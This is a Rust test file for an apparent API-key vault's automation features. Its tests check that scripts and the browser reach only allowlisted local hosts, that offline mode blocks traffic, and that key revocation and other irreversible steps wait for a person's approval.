    let result = summary.result.unwrap();
    assert_eq!(result["figures"]["requests_used"], "1,234", "{result}");
    assert_eq!(result["figures"]["cost"], "$5.10");
    assert_eq!(result["missing"], serde_json::json!(["credits_remaining"]));
    assert!(hits.load(std::sync::atomic::Ordering::SeqCst) >= 1);
    assert_eq!(person.shown.lock().unwrap().len(), 1);
    // The figures are in the dashboard, from a scrape.
    let overview = keyclave_core::dashboard::overview(&v).unwrap();
    let row = overview.keys.iter().find(|k| k.secret.key_name == "OPENAI_API_KEY").unwrap();
    let snap = row.latest.as_ref().expect("a snapshot");
    assert_eq!((snap.collection_method.as_str(), snap.collection_status.as_str()), ("scrape", "partial"));
    assert_eq!(
        (snap.usage.requests_used, snap.usage.cost, snap.usage.currency.as_deref()),
        (Some(1234), Some(5.1), Some("USD"))
    );
}

#[test]
fn selectors_are_versioned_and_built_in_ones_start_unverified() {
    use keyclave_core::automation::selectors;
    let f = Fixture::new();
    let v = f.unlock();
    let openai = selectors::list(&v, Some("openai")).unwrap();
    assert!(!openai.is_empty() && openai.iter().all(|s| s.status == "unverified" && s.version == 1));
    let set = selectors::set(&v, "openai", "cost", "css", "#spend").unwrap();
    assert_eq!((set.version, set.status.as_str(), set.value.as_str()), (2, "unverified", "#spend"));
    let e = selectors::set(&v, "openai", "colour", "css", "#x").unwrap_err();
    assert_eq!(e.code(), ErrorCode::InputInvalid);
    let stored = keyclave_core::automation::scrape::store(
        &v,
        "openai",
        &serde_json::json!({"figures": {"cost": "$1.00"}, "missing": ["credits_limit"]}),
    )
    .unwrap();
    assert_eq!(stored.found, ["cost"]);
    let after = selectors::list(&v, Some("openai")).unwrap();
    let by = |d: &str| after.iter().find(|s| s.data_type == d).unwrap().clone();
    assert_eq!((by("cost").status.as_str(), by("cost").version), ("verified", 2));
    assert_eq!(by("credits_limit").status, "broken");
}

#[test]
fn the_browser_too_reaches_only_allowlisted_hosts() {
    let f = Fixture::new();
    let v = f.unlock();
    go_online(&v);
    let (allowed_port, _) = tiny_server("<html><body><p id='x'>allowed</p></body></html>");
    let (other_port, other_hits) = tiny_server("<html><body><p id='x'>secret page</p></body></html>");
    let mut key = NewSecret::new("OPENAI_API_KEY", OPENAI);
    key.endpoint = Some(format!("http://127.0.0.1:{allowed_port}"));
    secrets::add(&v, key).unwrap();
    let source = format!(
        r##"import keyclave_runtime as kc
browser = kc.browser()
page = browser.new_page()
page.goto("http://127.0.0.1:{allowed_port}/")
allowed = page.inner_text("#x")
response = page.goto("http://" + "127.0.0.1:{other_port}/")
kc.result({{"allowed": allowed, "other_status": response.status if response else None, "other_text": page.content()[:200]}})
"##
    );
    let s = script::create(
        &v,
        NewScript {
            provider_id: "openai".into(),
            task_type: TaskType::Custom,
            title: String::new(),
            description: String::new(),
            source,
            model_used: "file".into(),
            research: None,
            plan: None,
        },
    )
    .unwrap();
    let py = browser_python();
    let (checked, report) = script::check(&v, &py, &s.id).unwrap();
    assert!(!report.has_errors(), "{:?}", report.findings);
    script::review(&v, &checked, &report, true, None).unwrap();
    script::set_auto_approve_repeat(&v, &s.id, true).unwrap();
    let cps = Checkpoints::new();
    let person = TestPerson::new(&v, &cps, approve_all);
    let options = RunOptions { headless: true, timeout: Duration::from_secs(120), ..RunOptions::default() };
    let summary =
        executor::run(&v, &py, &s.id, &cps, &Handle(person.clone()), options, CancellationToken::new())
            .unwrap();
    assert_eq!(summary.status, RunStatus::Success, "{:?}", messages(&v, &summary));
    let result = summary.result.clone().unwrap();
    assert_eq!(result["allowed"], "allowed");
    assert_eq!(result["other_status"], 403, "{result}");
    assert!(!result["other_text"].as_str().unwrap().contains("secret page"));
    assert_eq!(other_hits.load(std::sync::atomic::Ordering::SeqCst), 0);
    let refused = format!("network: refused 127.0.0.1:{other_port}");
    assert!(messages(&v, &summary).iter().any(|m| m.starts_with(&refused)));
}

#[test]
fn a_failure_before_the_next_checkpoint_is_retried_but_not_one_after_it() {
    let f = Fixture::new();
    let v = f.unlock();
    let flaky = approved(
        &f,
        &v,
        r##"import keyclave_runtime as kc
import os
n = int(open("count").read()) if os.path.exists("count") else 0
with open("count", "w") as fh:
    fh.write(str(n + 1))
if n < 2:
    raise SystemExit(1)
kc.result({"attempts": n + 1})
"##,
    );
    let summary = run(&f, &v, &flaky, approve_all);
    assert_eq!(summary.status, RunStatus::Success, "{:?}", messages(&v, &summary));
    assert_eq!(summary.result.as_ref().unwrap()["attempts"], 3, "default automation_max_retries is 3");
    assert_eq!(messages(&v, &summary).iter().filter(|m| m.contains("retry")).count(), 2);

    let after_checkpoint = approved(
        &f,
        &v,
        "import keyclave_runtime as kc\nd = kc.checkpoint('account', 'Log in', 'Continue')\nraise SystemExit(1)\n",
    );
    let summary = run(&f, &v, &after_checkpoint, approve_all);
    assert_eq!(summary.status, RunStatus::Failure);
    assert_eq!(summary.checkpoints_reached, 1, "not retried: the checkpoint was asked once");
    assert!(!messages(&v, &summary).iter().any(|m| m.contains("retry")));
}

/// A fake API-keys page: "Create key" shows a new key made by the page's
/// own script, "Revoke" posts to /revoke. Records each request line.
fn fake_keys_page() -> (u16, Arc<Mutex<Vec<String>>>) {
    use std::io::{BufRead, BufReader, Write};
    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    let seen: Arc<Mutex<Vec<String>>> = Arc::default();
    let log = seen.clone();
    std::thread::spawn(move || {
        for stream in listener.incoming().flatten() {
            let mut reader = BufReader::new(stream.try_clone().unwrap());
            let mut first = String::new();
            let _ = reader.read_line(&mut first);
            let mut line = String::new();
            while reader.read_line(&mut line).is_ok_and(|n| n > 2) {
                line.clear();
            }
            log.lock().unwrap().push(first.trim().to_string());
            let page = "<html><body><p>Old key: sk-...old</p>\
                <button id='create-key' onclick=\"document.getElementById('new-key').textContent = ['sk', 'proj', 'zqxRotatedByPage', '0123456789abcdefABCDEF'].join('-')\">Create key</button>\
                <code id='new-key'></code>\
                <button id='revoke-old-key' onclick=\"fetch('/revoke', {method: 'POST'})\">Revoke old key</button></body></html>";
            let mut stream = stream;
            let _ = write!(
                stream,
                "HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nContent-Length: {}\r\nConnection: close\r\n\r\n{page}",
                page.len()
            );
        }
    });
    (port, seen)
}

#[test]
fn the_rotate_template_stores_the_new_key_and_revokes_the_old_one_only_when_approved() {
    let f = Fixture::new();
    let v = f.unlock();
    go_online(&v);
    let (port, seen) = fake_keys_page();
    let endpoint = format!("http://127.0.0.1:{port}");
    let mut key = NewSecret::new("OPENAI_API_KEY", OPENAI);
    key.endpoint = Some(endpoint.clone());
    secrets::add(&v, key).unwrap();
    let template = keyclave_core::automation::templates::get("rotate-key").unwrap();
    let fill = keyclave_core::automation::templates::Fill {
        url: Some(format!("{endpoint}/api-keys")),
        selectors: vec![],
    };
    let s = script::create(
        &v,
        NewScript {
            provider_id: "openai".into(),
            task_type: TaskType::ApiKeyManagement,
            title: String::new(),
            description: String::new(),
            source: template.render("openai", &fill).unwrap(),
            model_used: "template:rotate-key".into(),
            research: None,
            plan: None,
        },
    )
    .unwrap();
    let py = browser_python();
    let (checked, report) = script::check(&v, &py, &s.id).unwrap();
    assert!(!report.has_errors(), "{:?}", report.findings);
    assert_eq!(report.stores, ["OPENAI_API_KEY"]);
    script::review(&v, &checked, &report, true, None).unwrap();
    script::set_auto_approve_repeat(&v, &s.id, true).unwrap();
    let rotated = format!("sk-proj-zqxRotatedByPage-{}", "0123456789abcdefABCDEF");
    let options =
        || RunOptions { headless: true, timeout: Duration::from_secs(120), ..RunOptions::default() };

    // Revoking is rejected: the new key is stored, the old one stays.
    let cps = Checkpoints::new();
    let person = TestPerson::new(&v, &cps, |p| {
        Some(decision(
            p,
            if p.kind == CheckpointType::Irreversible { Answer::Reject } else { Answer::Approve },
        ))
    });
    let summary =
        executor::run(&v, &py, &s.id, &cps, &Handle(person.clone()), options(), CancellationToken::new())
            .unwrap();
    assert_eq!(summary.status, RunStatus::Success, "{:?}", messages(&v, &summary));
    assert_eq!(summary.result.as_ref().unwrap()["old_key_revoked"], false);
    assert!(!seen.lock().unwrap().iter().any(|l| l.starts_with("POST /revoke")), "nothing revoked");
    assert_eq!(secrets::reveal(&v, "OPENAI_API_KEY", Some("openai"), None).unwrap().expose_secret(), rotated);
    let kinds: Vec<CheckpointType> = person.shown.lock().unwrap().iter().map(|p| p.kind).collect();
    assert_eq!(kinds, [CheckpointType::ApiKey, CheckpointType::Irreversible]);
    assert!(!all_event_text(&v, &summary).contains("zqxRotatedByPage"), "the new key is in no event");

    // Approved: the page gets the revocation.
    let cps = Checkpoints::new();
    let person = TestPerson::new(&v, &cps, approve_all);
    let summary =
        executor::run(&v, &py, &s.id, &cps, &Handle(person.clone()), options(), CancellationToken::new())
            .unwrap();
    assert_eq!(summary.result.as_ref().unwrap()["old_key_revoked"], true, "{:?}", messages(&v, &summary));
    assert!(!all_event_text(&v, &summary).contains("zqxRotatedByPage"));
    let revoked = || seen.lock().unwrap().iter().filter(|l| l.starts_with("POST /revoke")).count();
    let started = Instant::now();
    while revoked() == 0 && started.elapsed() < Duration::from_secs(5) {
        std::thread::sleep(Duration::from_millis(50));
    }
    assert_eq!(revoked(), 1);
}

/// A fake dashboard behind a login wall: `/login` sets a session cookie,
/// `/usage` answers the figures only with it (else it sends you to login).
fn fake_dashboard_with_login() -> u16 {
    use std::io::{BufRead, BufReader, Write};
    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    std::thread::spawn(move || {
        for stream in listener.incoming().flatten() {
            let mut reader = BufReader::new(stream.try_clone().unwrap());
            let mut first = String::new();
            let _ = reader.read_line(&mut first);
            let mut cookie = false;
            let mut line = String::new();
            while reader.read_line(&mut line).is_ok_and(|n| n > 2) {
                if line.to_ascii_lowercase().starts_with("cookie:") && line.contains("session=ok") {
                    cookie = true;
                }
                line.clear();
            }
            let mut stream = stream;
            let (head, page) = if first.contains(" /login") {
                ("Set-Cookie: session=ok; Path=/; Max-Age=3600\r\n", "<p>Logged in</p>")
            } else if cookie {
                ("", "<span id='spend'>$7.25</span> of <span id='budget'>$25.00</span>")
            } else {
                ("", "<form action='/login'><input name='user'><button>Log in</button></form>")
            };
            let _ = write!(
                stream,
                "HTTP/1.1 200 OK\r\nContent-Type: text/html\r\n{head}Content-Length: {}\r\nConnection: close\r\n\r\n{page}",
                page.len()
            );
        }
    });
    port
}

#[test]
fn a_login_in_the_providers_browser_profile_survives_to_the_next_run() {
    let f = Fixture::new();
    let v = f.unlock();
    go_online(&v);
    let port = fake_dashboard_with_login();
    let site = format!("http://127.0.0.1:{port}");
    let mut key = NewSecret::new("OPENAI_API_KEY", OPENAI);
    key.endpoint = Some(site.clone());
    secrets::add(&v, key).unwrap();
    let py = browser_python();
    let approve_source = |source: String, task: TaskType| {
        let s = script::create(
            &v,
            NewScript {
                provider_id: "openai".into(),
                task_type: task,
                title: String::new(),
                description: String::new(),
                source,
                model_used: "file".into(),
                research: None,
                plan: None,
            },
        )
        .unwrap();
        let (checked, report) = script::check(&v, &py, &s.id).unwrap();
        assert!(!report.has_errors(), "{:?}", report.findings);
        script::review(&v, &checked, &report, true, None).unwrap();
        script::set_auto_approve_repeat(&v, &s.id, true).unwrap()
    };
    let scrape = keyclave_core::automation::templates::get("dashboard-scrape").unwrap();
    let fill = keyclave_core::automation::templates::Fill {
        url: Some(format!("{site}/usage")),
        selectors: vec![("credits_used".into(), "#spend".into()), ("credits_limit".into(), "#budget".into())],
    };
    let scrape = approve_source(scrape.render("openai", &fill).unwrap(), TaskType::DashboardScrape);
    let run_it = |s: &Script| {
        let cps = Checkpoints::new();
        let person = TestPerson::new(&v, &cps, approve_all);
        let options =
            RunOptions { headless: true, timeout: Duration::from_secs(120), ..RunOptions::default() };
        executor::run(&v, &py, &s.id, &cps, &Handle(person), options, CancellationToken::new()).unwrap()
    };
    // Not logged in: the usage page is the login form, nothing is read.
    let before = run_it(&scrape);
    assert_eq!(
        before.result.as_ref().unwrap()["missing"],
        serde_json::json!(["credits_limit", "credits_used"])
    );
    // The person logs in once (here: a script that opens the login page).
    let login = approve_source(
        format!(
            "import keyclave_runtime as kc\nbrowser = kc.browser()\npage = browser.new_page()\npage.goto(\"{site}/login\")\nbrowser.close()\n"
        ),
        TaskType::AccountCreation,
    );
    assert_eq!(run_it(&login).status, RunStatus::Success);
    // The next scrape finds the session in the provider's browser profile.
    let after = run_it(&scrape);
    assert_eq!(
        after.result.as_ref().unwrap()["figures"]["credits_used"],
        "$7.25",
        "{:?}",
        messages(&v, &after)
    );
    assert!(f.dir.path().join("automation/browser/openai").is_dir(), "the profile is kept per provider");
}

#[test]
fn research_and_plan_are_kept_with_the_script_and_may_hold_no_secret() {
    let f = Fixture::new();
    let v = f.unlock();
    let new = |plan: serde_json::Value| NewScript {
        provider_id: "openai".into(),
        task_type: TaskType::BillingRestriction,
        title: "Planned".into(),
        description: String::new(),
        source: "import keyclave_runtime as kc\nkc.log('x')\n".into(),
        model_used: "llama3.1:8b".into(),
        research: Some(
            serde_json::json!({"billing_page": "https://platform.openai.com/settings/organization/limits"}),
        ),
        plan: Some(plan),
    };
    let s = script::create(
        &v,
        new(serde_json::json!(["open the limits page", "checkpoint financial", "set the limit"])),
    )
    .unwrap();
    let back = script::get(&v, &s.id).unwrap();
    assert_eq!(back.plan.as_ref().unwrap()[1], "checkpoint financial");
    assert!(back.research.as_ref().unwrap()["billing_page"].as_str().unwrap().contains("limits"));
    let e = script::create(&v, new(serde_json::json!({"api_key": OPENAI}))).unwrap_err();
    assert_eq!(e.code(), ErrorCode::AutomationScriptRefused);
    assert!(!e.message().contains(OPENAI));
}

#[test]
fn with_online_mode_off_the_proxy_sends_nothing_even_to_an_allowlisted_host() {
    let f = Fixture::new();
    let v = f.unlock();
    let (port, hits) = tiny_server("usage: 42");
    let mut key = NewSecret::new("OPENAI_API_KEY", OPENAI);
    key.endpoint = Some(format!("http://127.0.0.1:{port}"));
    secrets::add(&v, key).unwrap();
    let s = approved(
        &f,
        &v,
        &format!(
            "import keyclave_runtime as kc\nimport urllib.request, urllib.error\ntry:\n    urllib.request.urlopen(\"http://127.0.0.1:{port}/usage\", timeout=10)\n    code = 200\nexcept urllib.error.HTTPError as e:\n    code = e.code\nkc.result({{\"code\": code}})\n"
        ),
    );
    let summary = run(&f, &v, &s, approve_all);
    assert_eq!(summary.result.as_ref().unwrap()["code"], 403);
    assert_eq!(hits.load(std::sync::atomic::Ordering::SeqCst), 0, "nothing was sent");
    assert!(messages(&v, &summary).iter().any(|m| m.contains("Online Mode is off")));
    // The refusal is in the network log, with the host and never a path.
    let log = std::fs::read_to_string(f.dir.path().join("logs/network.log")).unwrap();
    assert!(
        log.contains(&format!("127.0.0.1:{port}")) && log.contains("net.offline") && !log.contains("/usage"),
        "{log}"
    );
}

#[test]
fn a_decision_on_a_version_other_than_the_one_shown_decides_nothing() {
    let f = Fixture::new();
    let v = f.unlock();
    let s = new_script(&v, "import keyclave_runtime as kc\nkc.log('v1')\n").unwrap();
    let shown = s.sha256.clone();
    script::edit(&v, &s.id, "import keyclave_runtime as kc\nkc.log('v2')\n").unwrap();
    let e = script::decide(&v, &py(&f), &s.id, Some(&shown), true, None, false).unwrap_err();
    assert_eq!(e.code(), ErrorCode::AutomationHashMismatch);
    assert_eq!(script::get(&v, &s.id).unwrap().approval, script::Approval::Pending);
    let (approved, _) = script::decide(&v, &py(&f), &s.id, None, true, None, true).unwrap();
    assert!(approved.approval == script::Approval::Approved && approved.auto_approve_repeat);
}
